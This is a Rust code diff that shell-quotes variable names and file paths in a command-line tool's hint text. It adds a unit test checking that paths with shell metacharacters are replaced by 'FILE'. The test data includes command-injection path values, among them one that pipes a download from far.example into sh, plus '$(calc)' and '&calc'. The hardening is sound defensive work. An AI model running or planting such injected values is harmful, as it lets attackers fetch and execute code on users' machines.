@@ -178,14 +178,21 @@ impl ChosenSources {
     }
 }
 
-/// Returns a line about how to take a value from its source.
+/// Returns a line about how to take a value from its source. The user may copy the options to a shell, so they are
+/// quoted, and a path with a sign that some shell reads in another way is omitted.
 fn value_source_text(name: &str, source: &ValueSource) -> String {
     match source {
         ValueSource::Environment(text) => {
-            let variables = text.variables().join(" --take-env ");
-            format!("{name} can be taken from your environment with --take-env {variables}")
+            let options =
+                text.variables().into_iter().map(|variable| format!("--take-env {}", shell_words::quote(variable)));
+            let options = options.collect::<Vec<_>>().join(" ");
+            format!("{name:?} can be taken from your environment with {options}")
         }
-        ValueSource::File { path, .. } => format!("{name} can be taken from its file with --take-file {path}"),
+        ValueSource::File { path, .. } => {
+            let is_plain = |c: char| c.is_alphanumeric() || "-_./\\:~@+, ".contains(c);
+            let path = if path.chars().all(is_plain) { shell_words::quote(path) } else { "FILE".into() };
+            format!("{name:?} can be taken from its file with --take-file {path}")
+        }
     }
 }
 
@@ -294,4 +301,26 @@ fn import_report_text(report: &ScanReport, dry_run: bool, failed: usize) -> Stri
     let failed = if failed == 0 { String::new() } else { format!("; {failed} failed") };
     text.push_str(&format!("{done} {verb}; {rest} the same or unsupported{failed}\n"));
     text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn paths_in_hints_are_quoted_or_omitted() {
+        let cases = [
+            ("/home/ann/server.env", "/home/ann/server.env"),
+            ("~/my server.env", "'~/my server.env'"),
+            ("a;curl far.example|sh", "FILE"),
+            ("a';curl far.example;'b", "FILE"),
+            ("a&calc", "FILE"),
+            ("$(calc)", "FILE"),
+        ];
+        for (path, shown) in cases {
+            let source = ValueSource::File { path: path.to_owned(), value: String::from("hunter2").into() };
+            let expected = format!("\"KEY\" can be taken from its file with --take-file {shown}");
+            assert_eq!(value_source_text("KEY", &source), expected);
+        }
+    }
 }
